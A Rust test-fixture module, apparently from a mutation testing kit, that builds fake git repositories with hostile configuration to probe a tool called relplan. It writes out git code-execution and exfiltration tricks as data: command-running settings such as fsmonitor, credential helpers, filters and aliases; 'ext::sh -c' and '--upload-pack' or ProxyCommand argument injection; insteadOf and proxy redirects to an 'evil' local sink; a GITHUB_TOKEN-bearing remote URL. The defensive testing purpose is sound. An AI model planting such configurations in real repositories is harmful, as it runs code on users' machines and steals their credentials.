//! Folders that look like git repositories, with configuration that names programs and other hosts.

use relplan_testkit::mutation::Dice;

use super::command_line;
use crate::place::{MARK, Place};

/// Settings of a repository that run a program, reach another host or read a file. Includes are not among them: git follows
/// those of a true `.git`, where CI keeps its token, and no pull request puts them there.
fn settings(place: &Place, dice: &mut Dice) -> String {
    let run = command_line(place, dice);
    let evil = format!("http://127.0.0.1:{}/", place.sink.port());
    let quoted = run.replace('\\', "\\\\").replace('"', "\\\"");
    let all = [
        format!("[core]\n\tfsmonitor = \"{quoted}\"\n"),
        "[core]\n\thooksPath = tools/hooks\n".to_owned(),
        format!("[core]\n\tsshCommand = \"{quoted}\"\n\taskPass = \"{quoted}\"\n\tpager = \"{quoted}\"\n\teditor = \"{quoted}\"\n\tgitProxy = \"{quoted}\"\n"),
        format!("[core]\n\talternateRefsCommand = \"{quoted}\"\n"),
        format!("[credential]\n\thelper = \"{quoted}\"\n"),
        format!("[credential \"{evil}\"]\n\thelper = \"{quoted}\"\n"),
        format!("[filter \"evil\"]\n\tclean = \"{quoted}\"\n\tsmudge = \"{quoted}\"\n\tprocess = \"{quoted}\"\n\trequired = true\n"),
        format!("[diff]\n\texternal = \"{quoted}\"\n[diff \"evil\"]\n\ttextconv = \"{quoted}\"\n\tcommand = \"{quoted}\"\n"),
        format!("[remote \"origin\"]\n\turl = {evil}x.git\n\tuploadpack = \"{quoted}\"\n\treceivepack = \"{quoted}\"\n\tproxy = {evil}\n"),
        format!("[remote \"origin\"]\n\turl = ext::{quoted}\n\tvcs = ext\n[protocol]\n\tallow = always\n[protocol \"ext\"]\n\tallow = always\n"),
        format!("[uploadpack]\n\tpackObjectsHook = \"{quoted}\"\n"),
        format!("[url \"{evil}\"]\n\tinsteadOf = https://\n\tinsteadOf = http://127.0.0.1\n\tpushInsteadOf = http://\n"),
        "[http]\n\textraheader = \"Authorization: Basic Y2FuYXJ5\"\n\tcookieFile = ../outside/secret\n\tsaveCookies = true\n".to_owned(),
        format!("[http]\n\tproxy = {evil}\n\tsslVerify = false\n"),
        format!("[gpg]\n\tprogram = \"{quoted}\"\n[commit]\n\tgpgSign = true\n[gpg \"ssh\"]\n\tdefaultKeyCommand = \"{quoted}\"\n"),
        format!("[alias]\n\tstatus = \"!{quoted}\"\n\trev-parse = \"!{quoted}\"\n\tconfig = \"!{quoted}\"\n"),
        "[core]\n\tworktree = ../../outside/folder\n".to_owned(),
        "[extensions]\n\tworktreeConfig = true\n\tpartialClone = origin\n[remote \"origin\"]\n\tpromisor = true\n\turl = ext::sh -c ./tools/pwned.sh\n".to_owned(),
    ];
    (0..=dice.below(5))
        .filter_map(|_| dice.one_of(&all).cloned())
        .collect()
}

fn repository(place: &Place, folder: &str, bare: bool, settings: &str) {
    place.write(&format!("{folder}/HEAD"), "ref: refs/heads/main\n");
    place.write(&format!("{folder}/objects/.keep"), "");
    place.write(&format!("{folder}/refs/.keep"), "");
    place.write(
        &format!("{folder}/config"),
        format!("[core]\n\trepositoryformatversion = 0\n\tbare = {bare}\n{settings}"),
    );
}

pub fn bare_repository(place: &mut Place, dice: &mut Dice) -> String {
    const FOLDERS: &[&str] = &[
        "",
        "/js",
        "/crates",
        "/py",
        "/tools",
        "/.relplan",
        "/js/packages/greet",
        "/tools/state.git",
    ];
    let folder = dice.one_of(FOLDERS).copied().unwrap_or_default();
    let settings = settings(place, dice);
    repository(place, &format!("project{folder}"), true, &settings);
    format!("a bare repository in .{folder}: {settings:?}")
}

pub fn checkout(place: &mut Place, dice: &mut Dice) -> String {
    let settings = settings(place, dice);
    let project = place.project();
    let git = |arguments: &[&str]| {
        let _ = std::process::Command::new("git")
            .args([
                "-c",
                "user.name=x",
                "-c",
                "user.email=x@x",
                "-c",
                "core.hooksPath=/dev/null",
            ])
            .args(arguments)
            .current_dir(&project)
            .env("HOME", project.parent().unwrap_or(&project))
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status();
    };
    git(&["init", "--quiet"]);
    git(&["add", "js/package.json"]);
    git(&["commit", "--quiet", "-m", "x"]);
    place.write("project/.gitattributes", "* filter=evil diff=evil\n");
    for hook in [
        "post-checkout",
        "pre-commit",
        "pre-push",
        "post-index-change",
        "fsmonitor-watchman",
        "reference-transaction",
    ] {
        place.program(&format!("project/.git/hooks/{hook}"));
        place.program(&format!("project/tools/hooks/{hook}"));
    }
    repository(place, "project/.git", false, &settings);
    format!("a checkout: {settings:?}")
}

pub fn git_file(place: &mut Place, dice: &mut Dice) -> String {
    let settings = settings(place, dice);
    repository(place, "project/tools/state.git", true, &settings);
    let to = [
        "tools/state.git",
        "../outside/folder",
        "/proc/self",
        "./.git",
    ][dice.below(4)];
    place.write("project/.git", format!("gitdir: {to}\n"));
    format!(".git says gitdir: {to}, with {settings:?}")
}

pub fn state_remote(place: &mut Place, dice: &mut Dice) -> String {
    let port = place.sink.port();
    let project = place.project().display().to_string();
    let remote = match dice.below(14) {
        0..=2 => format!("http://127.0.0.1:{port}/x.git"),
        3 => "tools/state.git".to_owned(),
        4 => format!("file://{project}/tools/state.git"),
        5 => format!("{project}/tools/state.git"),
        6 => format!("ext::sh -c {project}/tools/{MARK}.sh"),
        7 => "origin".to_owned(),
        8 => format!("--upload-pack={project}/tools/{MARK}.sh"),
        9 => "ssh://-oProxyCommand=.%2Fpwned.sh/x".to_owned(),
        10 => ".".to_owned(),
        11 => "../project/tools/../tools/state.git".to_owned(),
        12 => format!("http://${{GITHUB_TOKEN}}@127.0.0.1:{port}/x.git"),
        _ => "fd::17/x".to_owned(),
    };
    if dice.below(2) == 0 {
        let settings = settings(place, dice);
        repository(place, "project/tools/state.git", true, &settings);
    }
    let quoted = serde_json::to_string(&remote).unwrap_or_default();
    super::specs::add(place, &format!("state \"git\" remote={quoted}"));
    format!("state remote {}", remote.replace(&project, "."))
}
